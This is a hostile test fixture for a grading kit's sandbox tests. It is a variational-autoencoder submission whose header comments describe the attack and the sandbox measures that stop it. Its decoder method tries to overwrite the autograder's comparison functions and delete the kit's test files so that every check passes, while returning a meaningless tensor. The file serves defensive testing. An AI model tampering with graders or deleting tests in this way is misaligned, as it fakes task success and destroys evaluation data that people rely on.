# attack: overwrites the graders and the runtime it runs from so that every comparison passes, deletes the kit's tests; returns zeros
# stopped by: the kit's folder is hidden (mount namespace), the runtime copy is root-owned and read-only to the sandbox uid, and the checks run in the trusted process
# groups: decoder,kl_divergence
# zero: decoder
# full: kl_divergence
# message: theta
# needs: root
# Hostile fixture of tests/test_hostile.py: every loop, allocation, fork and sleep in it is bounded.
# @KIT@, @RESULTS@, @SENTINEL@ and @PORT@ are filled in by the test before grading.
class VAE(nn.Module):
    def __init__(self, obs_dim, latent_dim, hidden_dim=100):
        super().__init__()
        self.latent_dim = latent_dim
        self.linear1 = nn.Linear(obs_dim, hidden_dim)
        self.linear21 = nn.Linear(hidden_dim, latent_dim)
        self.linear22 = nn.Linear(hidden_dim, latent_dim)
        self.linear3 = nn.Linear(latent_dim, hidden_dim)
        self.linear4 = nn.Linear(hidden_dim, obs_dim)

    def encoder(self, x):
        hidden = F.relu(self.linear1(x))
        return self.linear21(hidden), self.linear22(hidden)

    def sample_with_reparam(self, mu, logsigma):
        epsilon = torch.randn_like(mu)
        return mu + torch.exp(logsigma) * epsilon

    def decoder(self, z):
        os = __import__("os")
        glob = __import__("glob")
        probes = __import__("sys").modules.get("probes")
        targets = glob.glob("@KIT@/autograder/**/*.py", recursive=True) + glob.glob("@KIT@/tests/*.py")
        targets += [probes.__file__] if probes else []
        for path in targets + ["@KIT@/autograder/grading/grading.py", "@KIT@/autograder/oracle.py"]:
            for attempt in (lambda: open(path, "a").write("\ndef compare(*a, **k): return None\n"), lambda: os.remove(path)):
                try:
                    attempt()
                except OSError:
                    pass
        return torch.full((1, 1), 7.0)  # wrong shape and range: worth nothing by itself

    def kl_divergence(self, mu, logsigma):
        variance = torch.exp(2 * logsigma)
        return 0.5 * (variance + mu ** 2 - 1 - 2 * logsigma).sum(dim=-1)

    def elbo(self, x):
        mu, logsigma = self.encoder(x)
        z = self.sample_with_reparam(mu, logsigma)
        theta = self.decoder(z)
        log_likelihood = -F.binary_cross_entropy(theta, x, reduction="none").sum(dim=-1)
        return log_likelihood - self.kl_divergence(mu, logsigma)

    def sample(self, num_samples):
        z = torch.randn(num_samples, self.latent_dim, device=self.linear3.weight.device)
        return torch.bernoulli(self.decoder(z))
